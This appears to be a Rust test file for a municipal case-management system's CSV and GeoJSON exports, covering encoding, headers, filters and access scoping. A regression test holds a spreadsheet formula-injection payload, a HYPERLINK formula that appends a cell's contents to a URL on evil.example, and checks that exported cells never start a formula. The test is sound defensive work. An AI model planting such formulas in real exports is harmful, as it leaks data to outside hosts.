//! The case exports: a CSV that opens in Excel, and GeoJSON.

use chrono::Duration;
use serde_json::{json, Value};
use yiwang_tests::kit::TestServer;

use crate::common::{act_ok, hotline, intake, G1, G2};

#[tokio::test]
async fn csv_export_opens_in_excel_and_geojson_parses() {
    let s = TestServer::start().await;
    let op = s.login("community-001").await;
    let mut urgent = hotline(G1, "01.02", "=1+1 文化路, \"东\"侧\n电线");
    urgent["urgent"] = json!(true);
    let a = intake(&s, &op, urgent).await;
    s.advance(Duration::minutes(1));
    let b = intake(&s, &op, hotline(G2, "03.01", "暴露垃圾")).await;
    let mut no_place = hotline(G2, "03.01", "无定位");
    no_place
        .as_object_mut()
        .unwrap()
        .retain(|k, _| k != "lat" && k != "lon");
    s.advance(Duration::minutes(1));
    let c = intake(&s, &op, no_place).await;
    act_ok(
        &s,
        &op,
        b["id"].as_str().unwrap(),
        json!({"action": "claim"}),
    )
    .await;

    let center = s.login("center").await;
    let r = s
        .get(&center, "/api/v1/exports/cases.csv?sort=reported_at:asc")
        .await;
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "text/csv; charset=utf-8");
    let disposition = r.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        disposition.starts_with("attachment;") && disposition.contains("cases-20261126.csv"),
        "the browser saves it as a file: {disposition}"
    );
    let bytes = r.bytes().await.unwrap();
    assert_eq!(
        &bytes[..3],
        b"\xEF\xBB\xBF",
        "UTF-8 with a BOM, so Excel reads the Chinese"
    );
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    assert!(text.contains("\r\n"), "CRLF line ends");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        headers,
        [
            "案件编号",
            "状态",
            "类别",
            "紧急",
            "描述",
            "网格",
            "社区",
            "街道",
            "当前单位",
            "部门",
            "上报时间",
            "处置时限",
            "结案时间",
            "结果",
            "群众评价",
            "办理人员评价"
        ],
        "the Chinese headers, in order"
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3, "one row per case");
    let first = &rows[0];
    assert_eq!(&first[0], a["id"].as_str().unwrap());
    assert_eq!(&first[1], "待受理");
    assert_eq!(&first[2], "01.02 电线裸露或私拉乱接");
    assert_eq!(&first[3], "是", "urgent");
    assert_eq!(
        &first[4], "'=1+1 文化路, \"东\"侧\n电线",
        "commas, quotes and newlines survive; a formula is quoted so it never runs"
    );
    assert_eq!(&first[5], "社区1-1第1网格");
    assert_eq!((&first[6], &first[7]), ("社区1-1", "街道1"));
    assert_eq!(&first[10], "2026-11-26 09:00:00", "times are Beijing time");
    assert_eq!(&rows[1][1], "已认领");
    assert_eq!(&rows[1][8], "社区1-1", "the unit holding it now");

    let claimed = s
        .get(&center, "/api/v1/exports/cases.csv?state=claimed")
        .await;
    let body = claimed.text().await.unwrap();
    assert_eq!(
        body.trim_end().lines().count(),
        2,
        "the export takes the list's filters: header and the one claimed case"
    );
    let none = s.login("community-003").await;
    let theirs = s
        .get(&none, "/api/v1/exports/cases.csv")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(
        theirs.trim_end().lines().count(),
        1,
        "another community exports only the header"
    );
    let r = s.get(&center, "/api/v1/exports/cases.csv?page=2").await;
    assert_eq!(r.status(), 400, "an export has no pages");

    let r = s
        .get(
            &center,
            "/api/v1/exports/cases.geojson?sort=reported_at:asc",
        )
        .await;
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "application/geo+json");
    let geo: Value = r.json().await.expect("the export is JSON");
    assert_eq!(geo["type"], "FeatureCollection");
    let features = geo["features"].as_array().unwrap();
    assert_eq!(features.len(), 3, "one feature per case");
    assert_eq!(features[0]["type"], "Feature");
    assert_eq!(features[0]["id"], a["id"]);
    assert_eq!(
        features[0]["geometry"],
        json!({"type": "Point", "coordinates": [122.504, 40.615]}),
        "a point at [lon, lat], as RFC 7946 orders them"
    );
    assert_eq!(features[0]["properties"]["state_label"], "待受理");
    assert_eq!(features[2]["id"], c["id"]);
    assert!(
        features[2]["geometry"].is_null(),
        "a case without a location has no geometry"
    );
}

/// Issue 13, first finding: a device chooses its case ids, and a formula as one reached the
/// CSV unguarded. Every cell of every row now reads as text in a spreadsheet.
#[tokio::test]
async fn no_csv_cell_starts_a_formula_whatever_a_device_sent() {
    use yiwang_tests::kit::ops;
    let s = TestServer::start().await;
    let worker = s.login("worker-0001").await;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&E2,\"详情\")";
    let push = s
        .post(
            &worker,
            "/api/v1/sync/push",
            &json!({
                "device_id": "dev-worker-0001",
                "ops": [ops::finding(&ops::new_id(), G1, "report", Some(formula))]
            }),
        )
        .await;
    let body: Value = push.json().await.unwrap();
    assert_eq!(body["results"][0]["status"], "applied", "{body}");

    let center = s.login("center").await;
    let text = s
        .get(&center, "/api/v1/exports/cases.csv")
        .await
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{FEFF}').as_bytes());
    let mut rows = 0;
    let mut found = false;
    for record in reader.records() {
        let record = record.unwrap();
        rows += 1;
        for c in record.iter() {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would evaluate: {c:?}"
            );
        }
        found |= record.get(0) == Some(&format!("'{formula}")[..]);
    }
    assert!(rows > 0, "the export has rows");
    assert!(found, "the case is there, its id shown as text");
}
